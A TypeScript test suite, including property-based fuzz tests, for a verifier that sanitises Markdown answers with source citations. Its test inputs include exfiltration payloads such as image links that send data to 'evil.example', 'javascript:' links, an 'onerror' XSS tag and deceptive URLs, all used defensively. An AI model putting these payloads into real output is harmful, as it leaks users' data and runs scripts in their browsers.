import * as fc from "fast-check";
import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import Markdown from "react-markdown";
import remarkGfm from "remark-gfm";
import { describe, expect, it } from "vitest";
import { verify, owls, tea } from "../testing/verified-answer.ts";
import { createAnswerVerifier } from "./verify-answer.ts";

describe("createAnswerVerifier with active content", () => {
  it.each([
    ["![x](https://evil.example/?d=secret)", ""],
    ["a ![x](https://evil.example/x.png) b", "a  b"],
    ["[![x](https://evil.example/a)](https://evil.example/b)", String.raw`\[\](evil.example)`],
    ["[click here](https://evil.example/?d=1)", "click here"],
    ["[click](javascript:alert(1))", String.raw`\[click\](javascript:alert(1))`],
    ["[click](/api/auth/sign-out)", "click"],
    ["see https://www.evil.example/a?b=c.", "see evil.example."],
    ["see www.evil.example/a", "see evil.example"],
    ["see <https://evil.example/a>", String.raw`see \<evil.example\>`],
    ["https://paypal.com@evil.example/", "evil.example"],
    ["[a][b]\n\n[b]: https://evil.example", "\\[a\\]\\[b\\]\n\n\\[b\\]: evil.example"],
    ["<img src=x onerror=alert(1)>", String.raw`\<img src=x onerror=alert(1)>`],
    [String.raw`http:\/\/evil.example`, "evil.example"],
    ["http&#58;//evil.example", "http&amp;#58;//evil.example"],
    ["http:![](x)//evil.example", "evil.example"],
    ["http:[[9|nowhere to be found]]//evil.example", "evil.example (not in your sources)"],
    ["~~~\n```\n~~~", "\\~\\~\\~\n\n```\n~~~\n```\n"],
    ["[[1|owls hunt at night]](https://evil.example)", String.raw`\[1\](evil.example)`],
    ["[[1|owls hunt at night]]: x", String.raw`[1]\: x`],
    ["[[1|owls hunt at night]](x)", String.raw`[1]\(x)`],
    ["[![](x)1]", "(1)"],
    ["&#91;1&#93;", "&amp;#91;1&amp;#93;"],
  ])("turns %j into %j", (answer, text) => {
    expect(verify(answer).text).toBe(text);
  });

  it("turns the URL of a source into a link to its entry", () => {
    expect(
      verify("See https://owls.example/night/?utm_source=x, or [this](https://owls.example/night).")
        .text,
    ).toBe(String.raw`See [Owls of \*the\* night](/entry/owls), or [this](/entry/owls).`);
  });

  it("keeps code, but not URLs in it", () => {
    const code = "```ts\nconst a = b[1] < c; // [x](y) http://evil.example/a\n```\n";
    expect(verify(`So:\n${code}and \`a[1] <b>\` too.`).text).toBe(
      "So:\n\n```ts\nconst a = b[1] < c; // [x](y) evil.example\n```\nand `a[1] <b>` too.",
    );
  });

  it.each([
    "- ```\n![x](https://evil.example/)",
    "> ```\n![x](https://evil.example/)\n> ```",
    "  ```\n![x](https://evil.example/)\n",
    "` a\n b `![x](https://evil.example/)` c `",
    "| `a | ![x](https://evil.example/)` |\n|---|---|\n",
    "| `![x](https://evil.example/)|` |\n|---|---|\n",
    "```` a ```\n![x](https://evil.example/)",
    "| a |\n|---|\n```\n![x](https://evil.example/)\n",
    "\\`![x](https://evil.example/)`",
    "```x`y\n![x](https://evil.example/)\n```",
  ])("does not treat %j as code that could hide an image", (answer) => {
    expect(render(verify(answer).text)).not.toMatch(/<img/);
  });
});

/** As the strictest Markdown renderer shows it. */
function render(markdown: string): string {
  return renderToStaticMarkup(createElement(Markdown, { remarkPlugins: [remarkGfm] }, markdown));
}

const piece = fc.oneof(
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      "[[",
      "]]",
      "[[1|",
      "[[2|",
      "[[1|owls hunt at night]]",
      "[[9|owls hunt at night]]",
      "|",
      "[1]",
      "[^1]",
      "[",
      "]",
      "(",
      ")",
      "![",
      "](",
      "[x]",
      "(https://evil.example/?q=1)",
      ": ",
      "\\",
      "`",
      "``",
      "```",
      "```js\n",
      "~~~",
      "<",
      ">",
      "<img src=x>",
      "<!--",
      "&#91;",
      "&lt;",
      "http:",
      "//",
      "https://evil.example/a",
      "www.",
      "www.evil.example",
      "ftp://",
      "\n",
      "\n\n",
      "    ",
      "- ",
      "> ",
      "# ",
      "| a |",
      "|---|\n",
      "owls hunt at night",
      "Owls.",
      " ",
      "1",
      "é",
      "緑茶。",
      "\0",
      "\r\n",
      "*",
      "_",
      "![x](y)",
    ),
  },
  { weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength: 8 }) },
);
const answer = fc.array(piece, { maxLength: 30 }).map((pieces) => pieces.join(""));

describe("createAnswerVerifier with any answer", () => {
  it("does not depend on how the answer is split", () => {
    fc.assert(
      fc.property(answer, fc.array(fc.nat(400), { maxLength: 40 }), (whole, places) => {
        const cuts = places.map((place) => place % (whole.length + 1)).toSorted((a, b) => a - b);
        expect(verify(whole, { cuts })).toEqual(verify(whole));
        const each = Array.from(whole, (_, index) => index);
        expect(verify(whole, { cuts: each })).toEqual(verify(whole));
      }),
      { numRuns: 1_500 },
    );
  });

  it("renders no image, no HTML and no link except to entries, in any renderer", () => {
    fc.assert(
      fc.property(answer, (whole) => {
        const { text } = verify(whole);
        expect(text).not.toMatch(/:\/\/|www\.|\0/i);
        const html = render(text);
        expect(html).not.toMatch(
          /<(?!\/?(p|em|strong|del|code|pre|ul|ol|li|a|h[1-6]|hr|br|blockquote|table|thead|tbody|tr|t[hd])[\s>/])/,
        );
        for (const [, href] of html.matchAll(/href="([^"]*)"/g))
          expect(href).toMatch(/^(\/entry\/(owls|tea)|mailto:.*)$/);
      }),
      { numRuns: 3_000 },
    );
  });

  it("shows a number only for words in the named source", () => {
    fc.assert(
      fc.property(answer, (whole) => {
        const { text, citations } = verify(whole);
        const outsideCode = render(text).replaceAll(/<code[^>]*>[^]*?<\/code>/g, "");
        for (const [, number] of outsideCode.matchAll(/\[(\d{1,3})\]/g)) {
          expect(citations.some((one) => one.number === Number(number))).toBe(true);
        }
        for (const { entryId, field, start, end, quote } of citations) {
          const source = entryId === "owls" ? owls : tea;
          expect(field).toBe("text");
          expect(source.excerpts[0]!.text.slice(start! - 1_000, end! - 1_000)).toBe(quote);
        }
      }),
      { numRuns: 2_000 },
    );
  });

  it("does not turn text around a URL into a number", () => {
    for (const whole of ["[1www.[x]", "[1www.www.]", "[12://]", "see [3https://[]"])
      expect(verify(whole).text).not.toMatch(/\[\d+\]/);
  });

  it("shows no number without sources", () => {
    fc.assert(
      fc.property(answer, (whole) => {
        const verifier = createAnswerVerifier([]);
        const text = verifier.push(whole) + verifier.end(true);
        expect(verifier.citations).toEqual([]);
        expect(render(text).replaceAll(/<code[^>]*>[^]*?<\/code>/g, "")).not.toMatch(/\[\d+\]/);
      }),
      { numRuns: 1_000 },
    );
  });
});
